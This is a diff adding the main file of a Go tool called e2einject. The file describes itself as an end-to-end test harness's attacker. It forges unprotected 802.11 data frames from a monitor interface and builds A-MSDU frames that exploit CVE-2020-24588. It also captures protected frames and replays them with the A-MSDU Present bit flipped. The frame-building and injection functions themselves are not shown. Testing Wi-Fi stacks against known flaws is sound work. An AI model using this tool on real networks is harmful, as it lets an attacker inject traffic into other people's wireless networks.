@@ -1,0 +1,143 @@
+// Command e2einject is the e2e harness's attacker: from an active monitor
+// on a radio of its own it forges and replays data frames in a station's
+// name, and on the hosts it sends and counts the UDP datagrams that show
+// what got through. One mode per invocation:
+//
+//	e2einject plain   -ifname fmon0 -ta STA -bssid BSSID -da HOSTMAC -src IP -dst IP:PORT -n 40
+//	e2einject amsdu   -ifname fmon0 -ta STA -bssid BSSID -da HOSTMAC -src IP -dst IP:PORT -n 20
+//	e2einject capture -ifname fmon0 -ta STA -bssid BSSID -out FILE -duration 10s
+//	e2einject replay  -ifname fmon0 -in FILE [-flip-amsdu]
+//	e2einject listen  -addr IP -ports 9996,9997,9998
+//	e2einject send    -dst IP:PORT -n 20 -interval 200ms -tag genuine
+//
+// plain sends unprotected data frames (QoS and non-QoS in turn), each an
+// LLC/SNAP IPv4 UDP datagram "plain N" to -dst. amsdu sends unprotected
+// A-MSDUs whose first subframe's DA is an RFC 1042 header (a plain MSDU's
+// LLC/SNAP read as a subframe header: CVE-2020-24588) and whose second
+// subframe, from the station to -da, is a UDP datagram "amsdu N": a
+// receiver that skipped only the bad first subframe would deliver it.
+// capture keeps the protected data frames the station sends to the BSSID,
+// as they were on the air; replay injects them again, verbatim, or with
+// -flip-amsdu only the QoS ones with the A-MSDU Present bit set (it is
+// outside CCMP's AAD unless SPP A-MSDUs are negotiated). listen prints one
+// line per datagram received; send sends -n datagrams "TAG N".
+//
+// The injecting modes print "SUMMARY sent=N errors=M" (capture:
+// "SUMMARY captured=N qos=M") and exit 0; 1 if the interface or a socket
+// could not be opened, 2 on bad flags.
+package main
+
+import (
+	"flag"
+	"fmt"
+	"net"
+	"os"
+	"time"
+)
+
+func main() {
+	if len(os.Args) < 2 {
+		usage("a mode: plain, amsdu, capture, replay, listen or send")
+	}
+	mode := os.Args[1]
+	fs := flag.NewFlagSet(mode, flag.ExitOnError)
+	ifname := fs.String("ifname", "fmon0", "monitor interface to inject on / capture from")
+	taS := fs.String("ta", "", "the station's MAC: the transmitter address")
+	bssidS := fs.String("bssid", "", "the access point's BSSID: the receiver address")
+	daS := fs.String("da", "", "the host's MAC: the destination of the forged MSDUs")
+	srcS := fs.String("src", "", "the station's IPv4 address: the forged datagrams' source")
+	dstS := fs.String("dst", "", "IP:PORT the datagrams go to")
+	n := fs.Int("n", 20, "frames (datagrams) to send")
+	interval := fs.Duration("interval", 20*time.Millisecond, "between two frames (datagrams)")
+	out := fs.String("out", "", "capture: file the frames are written to")
+	in := fs.String("in", "", "replay: file of captured frames")
+	flip := fs.Bool("flip-amsdu", false, "replay: only QoS frames, with the A-MSDU Present bit set")
+	duration := fs.Duration("duration", 10*time.Second, "capture: how long")
+	addr := fs.String("addr", "", "listen: the local IPv4 address")
+	ports := fs.String("ports", "", "listen: comma-separated UDP ports")
+	tag := fs.String("tag", "genuine", "send: the datagrams' text before their number")
+	_ = fs.Parse(os.Args[2:])
+
+	switch mode {
+	case "plain", "amsdu":
+		f := forger{ta: mustMAC("ta", *taS), bssid: mustMAC("bssid", *bssidS), da: mustMAC("da", *daS)}
+		f.src = mustIP("src", *srcS)
+		f.dst, f.port = mustHostPort(*dstS)
+		inj := mustInjector(*ifname)
+		for i := range *n {
+			if mode == "plain" {
+				inj.send(f.plain(i))
+			} else {
+				inj.send(f.amsdu(i))
+			}
+			time.Sleep(*interval)
+		}
+		inj.summary()
+	case "capture":
+		if *out == "" {
+			usage("-out")
+		}
+		exitOn(capture(*ifname, mustMAC("ta", *taS), mustMAC("bssid", *bssidS), *out, *duration))
+	case "replay":
+		if *in == "" {
+			usage("-in")
+		}
+		frames, err := readFrames(*in)
+		exitOn(err)
+		inj := mustInjector(*ifname)
+		for _, fr := range frames {
+			if *flip {
+				if !isQoS(fr) {
+					continue
+				}
+				fr[24] |= 0x80 // QoS Control b7: A-MSDU Present
+			}
+			inj.send(fr)
+			time.Sleep(*interval)
+		}
+		inj.summary()
+	case "listen":
+		exitOn(listen(mustIP("addr", *addr), *ports))
+	case "send":
+		ip, port := mustHostPort(*dstS)
+		exitOn(send(ip, port, *tag, *n, *interval))
+	default:
+		usage("a mode: plain, amsdu, capture, replay, listen or send, not " + mode)
+	}
+}
+
+func usage(want string) {
+	fmt.Fprintf(os.Stderr, "e2einject: want %s\n", want)
+	os.Exit(2)
+}
+
+func exitOn(err error) {
+	if err != nil {
+		fmt.Fprintln(os.Stderr, "e2einject:", err)
+		os.Exit(1)
+	}
+}
+
+func mustMAC(name, s string) [6]byte {
+	m, err := net.ParseMAC(s)
+	if err != nil || len(m) != 6 {
+		usage(fmt.Sprintf("-%s as a MAC address, not %q", name, s))
+	}
+	return [6]byte(m)
+}
+
+func mustIP(name, s string) [4]byte {
+	ip := net.ParseIP(s).To4()
+	if ip == nil {
+		usage(fmt.Sprintf("-%s as an IPv4 address, not %q", name, s))
+	}
+	return [4]byte(ip)
+}
+
+func mustHostPort(s string) ([4]byte, int) {
+	a, err := net.ResolveUDPAddr("udp4", s)
+	if err != nil || a.IP.To4() == nil {
+		usage(fmt.Sprintf("-dst as IPv4:PORT, not %q", s))
+	}
+	return [4]byte(a.IP.To4()), a.Port
+}
